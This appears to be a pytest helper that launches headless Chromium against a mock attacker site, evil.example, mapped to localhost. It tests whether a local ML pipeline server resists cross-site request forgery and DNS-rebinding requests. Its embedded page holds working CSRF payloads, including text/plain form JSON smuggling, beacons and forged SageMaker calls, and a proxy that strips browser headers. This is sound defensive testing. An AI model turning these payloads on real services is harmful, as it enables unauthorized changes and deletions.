"""A browser that visits a hostile page, and the hostile site, which serves the page and forwards requests to a server."""

from __future__ import annotations

import http.client
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import pytest

#: A name that the attacker owns and that resolves to this machine, as in DNS rebinding.
EVIL = "evil.example"
BROWSERS = ("chromium", "chromium-browser", "google-chrome")
VISIT_LIMIT = 60.0

# Headers that show that a browser sent a request, and for which page.
TELLING = {"origin", "referer", "host", "connection", "content-length"}

PAGE = """<!DOCTYPE html><meta charset="utf-8"><title>A page</title><body><script>
"use strict";
const given = new URLSearchParams(location.search);
const target = given.get("target"), signed = given.get("signed");
const within = (limit, promise) => Promise.race([promise, new Promise(done => setTimeout(done, limit))]);
const tried = [];
const attempt = async (name, work) => {
    try { await within(8000, work()); tried.push(name); } catch (error) { tried.push(name + ": " + error.name); }
};
const workspace = name => JSON.stringify({name});
const post = (path, body, headers) => fetch(target + path, {method: "POST", mode: "no-cors", body, headers});
const loaded = element => new Promise(done => {
    element.onload = element.onerror = done;
    document.body.append(element);
});
const submit = (path, encoding, fields) => {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "frame-" + encoding;
    Object.assign(form, {method: "POST", action: target + path, enctype: encoding, target: frame.name});
    for (const [name, value] of fields) {
        const input = document.createElement("input");
        Object.assign(input, {type: "hidden", name, value});
        form.append(input);
    }
    document.body.append(frame, form);
    return new Promise(done => { frame.onload = done; form.submit(); });
};
const elements = (kind, path) => {
    const element = document.createElement(kind);
    element.src = target + path;
    return loaded(element);
};
const own = (method, path, body, headers) => fetch(path, {method, body, headers});

(async () => {
    // Across sites: what needs no leave of the server's.
    await attempt("plain", () => post("/v1/workspaces", workspace("cross-plain"), {"Content-Type": "text/plain"}));
    await attempt("blob", () => post("/v1/workspaces", new Blob([workspace("cross-blob")])));
    await attempt("query", () => post("/v1/workspaces?", new URLSearchParams(workspace("cross-query"))));
    await attempt("json", () => fetch(target + "/v1/workspaces", {
        method: "POST", body: workspace("cross-json"), headers: {"Content-Type": "application/json"}}));
    await attempt("put", () => fetch(target + "/v1/pipelines/live/tags/cross-put", {method: "PUT"}));
    await attempt("delete", () => fetch(target + "/v1/pipelines/live/deployment", {method: "DELETE"}));
    await attempt("model", () => post("/v1/models/cross-model/versions?framework=process&algorithm=mean", new Blob(["x"])));
    await attempt("infer", () => post("/v1/pipelines/live/infer", given.get("inputs")));
    await attempt("beacon", async () => {
        const url = target + "/v1/workspaces?";
        navigator.sendBeacon(url, new Blob([workspace("cross-beacon")], {type: "text/plain"}));
        while (!performance.getEntriesByType("resource").some(entry => entry.initiatorType === "beacon"))
            await new Promise(done => setTimeout(done, 20));
    });
    // The equals sign of a form is within a string of JSON.
    await attempt("form", () => submit("/v1/training-jobs", "text/plain", [[
        '{"name":"cross-form","algorithm":"mean","output":"s3://bucket/out","environment":{"A":"', '"}}']]));
    await attempt("urlencoded", () => submit("/v1/pipelines/live/deployment", "application/x-www-form-urlencoded", [["a", "b"]]));
    await attempt("multipart", () => submit("/bucket", "multipart/form-data", [["key", "cross-multipart"], ["file", "x"]]));
    for (const kind of ["img", "script", "iframe"])
        await attempt(kind, () => elements(kind, "/v1/pipelines/live/logs?limit=1&" + kind));
    await attempt("socket", () => new Promise(done => {
        const socket = new WebSocket(target.replace("http", "ws") + "/v1/workspaces");
        socket.onopen = socket.onclose = socket.onerror = done;
    }));
    // By a name that leads to this machine: to the browser, the server is the page's own.
    const type = {"Content-Type": "application/json"};
    await attempt("own workspace", () => own("POST", "/v1/workspaces", workspace("own-workspace"), type));
    await attempt("own tag", () => own("PUT", "/v1/pipelines/live/tags/own-tag"));
    await attempt("own bucket", () => own("PUT", "/own-bucket", null, {"Authorization": signed}));
    await attempt("own object", () => own("PUT", "/bucket/own-object", "x", {"Authorization": signed}));
    await attempt("own call", () => own("POST", "/", '{"ModelName": "own-call", "ExecutionRoleArn": "arn:aws:iam::000000000000:role/R", '
        + '"PrimaryContainer": {"Image": "mean", "ModelDataUrl": "s3://bucket/model.tar.gz"}}',
        {"X-Amz-Target": "SageMaker.CreateModel", "Content-Type": "application/x-amz-json-1.1"}));
    await attempt("own infer", () => own("POST", "/v1/pipelines/live/infer", given.get("inputs"), type));
    await attempt("own delete", () => own("DELETE", "/v1/pipelines/other/deployment"));
    await fetch("/done", {method: "POST", body: tried.join("\\n")});
})();
</script></body>
"""


class Site(ThreadingHTTPServer):
    """Serves the page and forwards all other requests to a server, either unchanged or without the signs of a browser."""

    daemon_threads = True

    def __init__(self, server_url: str, is_disguised: bool) -> None:
        super().__init__(("127.0.0.1", 0), Passing)
        self.behind = server_url.removeprefix("http://")
        self.is_disguised = is_disguised
        self.done = threading.Event()
        #: The attempts that the page has reported.
        self.tried: list[str] = []

    @property
    def port(self) -> int:
        return int(self.server_address[1])


class Passing(BaseHTTPRequestHandler):
    """Handles one request to the site."""

    protocol_version = "HTTP/1.1"

    def __getattr__(self, name: str) -> object:
        if name.startswith("do_"):
            return self.answer
        raise AttributeError(name)

    def log_message(self, format: str, *arguments: object) -> None:
        """Logs nothing."""

    def answer(self) -> None:
        site = self.server
        assert isinstance(site, Site)
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        if self.path.startswith("/attack.html"):
            self.reply(200, [("Content-Type", "text/html")], PAGE.encode())
        elif self.path == "/done":
            site.tried = body.decode().splitlines()
            self.reply(204, [], b"")
            site.done.set()
        elif self.path == "/favicon.ico":
            self.reply(404, [], b"")
        else:
            self.pass_on(site, body)

    def pass_on(self, site: Site, body: bytes) -> None:
        headers = dict(self.headers.items())
        if site.is_disguised:
            headers = {
                name: value
                for name, value in headers.items()
                if name.lower() not in TELLING and not name.lower().startswith("sec-")
            }
            if body.startswith(b"{"):
                headers["Content-Type"] = (
                    headers.get("Content-Type", "").replace("text/plain", "") or "application/json"
                )
            headers["Host"] = site.behind
        headers["Content-Length"] = str(len(body))
        connection = http.client.HTTPConnection(site.behind, timeout=VISIT_LIMIT)
        try:
            connection.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
            for name, value in headers.items():
                connection.putheader(name, value)
            connection.endheaders(body)
            answer = connection.getresponse()
            content = answer.read()
        except (OSError, http.client.HTTPException):
            return self.reply(502, [], b"")
        finally:
            connection.close()
        kept = [("Content-Type", value) for name, value in answer.getheaders() if name.lower() == "content-type"]
        self.reply(answer.status, kept, content)

    def reply(self, status: int, headers: list[tuple[str, str]], body: bytes) -> None:
        self.send_response(status)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)


@contextmanager
def site(server_url: str, is_disguised: bool) -> Iterator[Site]:
    served = Site(server_url, is_disguised)
    thread = threading.Thread(target=served.serve_forever, daemon=True)
    thread.start()
    try:
        yield served
    finally:
        served.shutdown()
        served.server_close()


def visit(attacker: Site, target: str, signed: str, inputs: str, folder: Path) -> list[str]:
    """Opens the page in a browser that resolves the attacker's name to this machine, and returns the page's attempts."""
    browser = next((found for name in BROWSERS if (found := shutil.which(name))), None)
    assert browser is not None, "No browser is installed. Run: scripts/install-deps.sh browser"
    query = f"target={quote(target)}&signed={quote(signed)}&inputs={quote(inputs)}"
    command = [
        *(browser, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"),
        *("--no-proxy-server", "--disable-background-networking", "--disable-component-update", "--mute-audio"),
        f"--user-data-dir={folder}",
        f"--host-resolver-rules=MAP {EVIL} 127.0.0.1, EXCLUDE localhost",
        f"http://{EVIL}:{attacker.port}/attack.html?{query}",
    ]
    with (folder.parent / f"{folder.name}.log").open("wb") as log:
        process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=log, stderr=log, start_new_session=True)
        try:
            if not attacker.done.wait(VISIT_LIMIT):
                tail = (folder.parent / f"{folder.name}.log").read_text(errors="replace")[-2000:]
                pytest.fail(f"The page was not done within {VISIT_LIMIT:g} s (status {process.poll()}).\n{tail}")
        finally:
            process.terminate()
            try:
                process.wait(10)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()
    return attacker.tried
